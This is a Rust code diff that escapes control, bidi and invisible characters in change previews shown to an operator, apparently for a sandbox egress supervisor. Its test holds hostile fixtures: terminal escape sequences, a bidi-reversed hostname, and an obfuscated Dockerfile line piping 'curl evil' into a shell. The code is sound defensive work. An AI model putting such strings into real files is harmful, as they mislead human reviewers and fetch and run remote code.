@@ -3,7 +3,15 @@
 
 use std::path::Path;
 
+use bottle_supervise_queue::text::escape_unprintable;
 use bottle_supervise_queue::{Change, CurrentConfig};
+
+/// `text` as the operator is shown it: every unprintable character (control, bidi, invisible)
+/// escaped as `\u001b`, newline and tab kept. The sidecar refuses such characters, but a queue
+/// file or a saved Dockerfile may have been written by something else.
+pub fn shown(text: &str) -> String {
+    escape_unprintable(text).into_owned()
+}
 
 /// A unified diff of two texts, labelled `before/<label>` and `after/<label>`; empty when equal.
 pub fn unified(before: &str, after: &str, label: &str) -> String {
@@ -22,8 +30,12 @@ fn yaml<T: serde::Serialize>(value: &T) -> String {
 }
 
 /// The proposal's change as a diff against `current` (and, for a Dockerfile, against the one
-/// already waiting in `state_dir`, if any).
+/// already waiting in `state_dir`, if any), escaped for display ([`shown`]).
 pub fn diff(current: &CurrentConfig, change: &Change, state_dir: &Path) -> String {
+    shown(&raw_diff(current, change, state_dir))
+}
+
+fn raw_diff(current: &CurrentConfig, change: &Change, state_dir: &Path) -> String {
     match change {
         Change::Routes { routes } => unified(&yaml(&current.routes), &yaml(routes), "routes"),
         Change::AllowHost { host, .. } => {
@@ -50,8 +62,12 @@ pub fn diff(current: &CurrentConfig, change: &Change, state_dir: &Path) -> Strin
     }
 }
 
-/// One line saying what a change asks for.
+/// One line saying what a change asks for, escaped for display ([`shown`]).
 pub fn summary(change: &Change) -> String {
+    shown(&raw_summary(change))
+}
+
+fn raw_summary(change: &Change) -> String {
     match change {
         Change::Routes { routes } => {
             let hosts: Vec<&str> = routes.iter().map(|r| r.host.as_str()).collect();
@@ -104,6 +120,62 @@ mod tests {
         let diff = diff(&current, &change, Path::new("/nonexistent"));
         assert!(diff.contains("+- b.example"), "{diff}");
         assert!(diff.contains(" - a.example"), "{diff}");
+    }
+
+    /// Changes as a file written by something other than the sidecar could hold them.
+    fn hostile() -> Vec<Change> {
+        vec![
+            Change::AllowHost {
+                url: "https://a.example/\u{1b}[2J\u{1b}]0;owned\u{7}".into(),
+                host: "a.example\u{202e}moc.live".into(),
+            },
+            Change::Dockerfile {
+                dockerfile: "FROM x\r\nRUN \u{9b}2Jcurl evil\u{2066}|sh\n".into(),
+            },
+            Change::Routes {
+                routes: vec![bottle_egress_config::Route {
+                    host: "api.x.com\u{200b}".into(),
+                    path_allowlist: vec!["/\u{1b}[8m".into()],
+                    auth: None,
+                }],
+            },
+        ]
+    }
+
+    #[test]
+    fn previews_escape_what_a_terminal_would_act_on() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir_all(
+            super::super::apply::saved_dockerfile(dir.path())
+                .parent()
+                .unwrap(),
+        )
+        .unwrap();
+        // A saved Dockerfile written by something else is escaped too.
+        std::fs::write(
+            super::super::apply::saved_dockerfile(dir.path()),
+            "FROM old\u{1b}[1A\n",
+        )
+        .unwrap();
+        for change in hostile() {
+            let summary = summary(&change);
+            let diff = diff(&CurrentConfig::default(), &change, dir.path());
+            // Positive control: the diff shows the change at all.
+            assert!(diff.contains("after/"), "{diff}");
+            for text in [&summary, &diff] {
+                let bad: Vec<char> = text
+                    .chars()
+                    .filter(|&c| bottle_supervise_queue::text::is_unprintable(c))
+                    .collect();
+                assert!(bad.is_empty(), "{bad:?} in {text:?}");
+            }
+            assert!(diff.contains("\\u"), "escaped, not dropped: {diff}");
+        }
+        let s = summary(&hostile()[0]);
+        assert!(s.contains("a.example\\u202emoc.live"), "{s}");
+        let d = diff(&CurrentConfig::default(), &hostile()[1], dir.path());
+        assert!(d.contains("-FROM old\\u001b[1A"), "{d}");
+        assert!(d.contains("\\u000d"), "{d}");
     }
 
     #[test]
